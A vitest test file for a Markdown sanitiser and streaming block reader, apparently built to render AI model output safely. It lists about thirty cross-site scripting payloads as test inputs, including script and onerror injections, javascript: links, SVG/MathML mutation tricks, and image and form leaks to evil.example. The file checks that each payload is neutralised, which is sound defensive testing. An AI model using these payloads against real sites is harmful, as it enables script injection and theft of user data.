import { Lexer } from 'marked';
import { describe, expect, it, vi } from 'vitest';
import { BlockReader, codeOf, type Block } from '../src/markdown/blocks';
import { renderBlock, safeNodes } from '../src/markdown/sanitise';
import { highlight } from '../src/markdown/languages';

function render(text: string): HTMLElement {
  const box = document.createElement('div');
  for (const block of new BlockReader().whole(text)) box.append(renderBlock(block));
  return box;
}

const allowedTags = /^(?:p|br|hr|h[1-6]|ul|ol|li|blockquote|pre|code|span|em|strong|b|i|u|del|ins|mark|small|sub|sup|kbd|a|img|table|thead|tbody|tr|th|td)$/;
const allowedAttributes = /^(?:href|title|src|alt|align|start|class|target|rel)$/;

/** What must hold for anything, whatever a model writes. */
function expectHarmless(root: ParentNode): void {
  for (const element of root.querySelectorAll('*')) {
    expect(element.tagName.toLowerCase()).toMatch(allowedTags);
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(allowedAttributes);
      if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:)/i);
      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/i);
      if (name === 'class') expect(value).toMatch(/^(?:language-|hljs-)/);
    }
  }
}

const attacks: [name: string, text: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script in a line', 'a <script src="https://evil.example/x.js"></script> b'],
  ['onerror', '<img src=x onerror=alert(1)>'],
  ['onerror in Markdown', '![a](x"onerror="alert(1))'],
  ['svg', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['javascript link', '[click](javascript:alert(1))'],
  ['javascript link, spaced', '[click](<java\tscript:alert(1)>)'],
  ['javascript link, entities', '[click](&#106;avascript:alert(1))'],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['vbscript', '[click](vbscript:msgbox)'],
  ['data link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data svg picture', '![x](data:image/svg+xml;base64,PHN2Zy8+)'],
  ['picture elsewhere', '![x](https://evil.example/leak?q=secret)'],
  ['picture by reference', '![x][y]\n\n[y]: https://evil.example/leak'],
  ['frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ['form', '<form action="https://evil.example"><input name=q><button>Go</button></form>'],
  ['style', '<style>*{display:none}</style><p style="position:fixed;inset:0">x</p>'],
  ['base and meta', '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['clobbering', '<a id=location name=location href=//evil.example>x</a><img name=cookie>'],
  ['class of the page', '<span class="button danger">x</span><b class="offscreen">y</b>'],
  ['code language', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['link title', '[a](https://example.com "x\\" onmouseover=\\"alert(1)")'],
  ['link within the page', '[a](#/models) [b](/admin/drain) [c](//evil.example)'],
  ['nested mutation', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['cdata', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['table cell', '|a|\n|-|\n|<img src=x onerror=alert(1)>|'],
  ['split tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
];

describe('hostile Markdown', () => {
  for (const [name, text] of attacks) {
    it(name, () => {
      expectHarmless(render(text));
      expectHarmless(safeNodes(text));
    });
  }

  it('is seen by this test', () => {
    const bad = document.createElement('div');
    bad.append(document.createElement('script'));
    expect(() => expectHarmless(bad)).toThrow();
  });
});

describe('Markdown', () => {
  it('shows HTML as text, except for plain tags', () => {
    const box = render('Use <div class="x"> and H<sub>2</sub>O<br>now');
    expect(box.textContent?.trim()).toBe('Use <div class="x"> and H2Onow');
    expect(box.querySelector('sub')?.textContent).toBe('2');
    expect(box.querySelector('br')).not.toBeNull();
  });

  it('opens links elsewhere, without a referrer', () => {
    const link = render('[site](https://example.com)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toContain('noopener');
  });

  it('turns pictures from elsewhere into links and keeps pictures in place', () => {
    const box = render('![a cat](https://example.com/cat.png) ![dot](data:image/png;base64,AAAA)');
    expect(box.querySelector('a')?.textContent).toBe('a cat');
    expect([...box.querySelectorAll('img')].map((img) => img.alt)).toEqual(['dot']);
  });

  it('renders what models write', () => {
    const box = render('# T\n\n- [x] done\n- b\n\n|a|b|\n|-|:-:|\n|1|2|\n\n> q\n\nline one\nline two\n\n~~old~~ **new** `code`');
    for (const tag of ['h1', 'ul li', 'table td', 'blockquote', 'br', 'del', 'strong', 'code']) expect(box.querySelector(tag)).not.toBeNull();
    expect(box.querySelector('li')?.textContent).toContain('☑ done');
  });
});

describe('code', () => {
  it('is coloured with spans and stays the same text', () => {
    const code = 'def f(x):\n    return "<script>" + x  # done\n';
    const nodes = safeNodes(highlight(code, 'python') ?? '');
    expect(nodes.textContent).toBe(code);
    expect(nodes.querySelector('span.hljs-keyword')?.textContent).toBe('def');
    expectHarmless(nodes);
  });

  it('of an unknown language stays plain', () => {
    expect(highlight('x', 'brainfog')).toBeNull();
  });
});

describe('BlockReader', () => {
  const raws = (blocks: Block[]) => blocks.map((block) => block.raw);
  const sample = [
    '# Title\n\nA paragraph\nwith two lines.\n\n',
    '- one\n- two\n\n  more of two\n\n    code in it\n\n- three\n\n\nafter\n\n',
    '```go\nfunc main() {\n\n}\n```\n\n',
    '|a|b|\n|-|-|\n|1|2|\n\ntext\n===\n\n',
    '> quote\n> more\n\n1. x\n2. y\n\n***\n\n    indented\n\n<div>\nhtml\n</div>\n\n',
    'see [ref]\n\n[ref]: https://example.com\n\nlast ```` ` ```` words',
  ].join('');

  it('cuts a growing text as it cuts the whole', () => {
    for (const step of [1, 3, 7, 50]) {
      const reader = new BlockReader();
      for (let end = 0; end <= sample.length; end += step) {
        const text = sample.slice(0, end);
        const grown = raws(reader.grown(text));
        expect(grown.join('')).toBe(text);
      }
      expect(raws(reader.grown(sample))).toEqual(raws(new BlockReader().whole(sample)));
    }
  });

  it('loses no text, whatever the line ends and tabs', () => {
    for (const text of ['a\r\nb\r\n\r\n\tc\td\r\n', '\t- x\n\t- y', ' \n \n', '\u00a0\n\n\u2028x']) {
      expect(raws(new BlockReader().whole(text)).join('')).toBe(text.replace(/\r\n?/g, '\n'));
    }
  });

  it('starts anew when the text is another one', () => {
    const reader = new BlockReader();
    reader.grown('first\n\nsecond');
    expect(raws(reader.grown('other'))).toEqual(['other']);
  });

  it('keeps finished blocks as they are', () => {
    const reader = new BlockReader();
    const [first] = reader.grown('one\n\ntwo');
    expect(reader.grown('one\n\ntwo three\n\nfour')[0]).toBe(first);
  });

  it('knows code, also before its end has come', () => {
    const [block] = new BlockReader().grown('```js\nlet x');
    expect(block && codeOf(block)).toMatchObject({ lang: 'js', text: 'let x' });
  });

  it('reads each character of a long text a few times only', () => {
    const lex = vi.spyOn(Lexer, 'lex');
    const reader = new BlockReader();
    const paragraph = 'Some words of an answer that goes on and on.\n\n';
    let text = '';
    while (text.length < 50_000) reader.grown((text += paragraph));
    const read = lex.mock.calls.reduce((sum, [part]) => sum + part.length, 0);
    lex.mockRestore();
    expect(read).toBeLessThan(3 * text.length);
  });
});
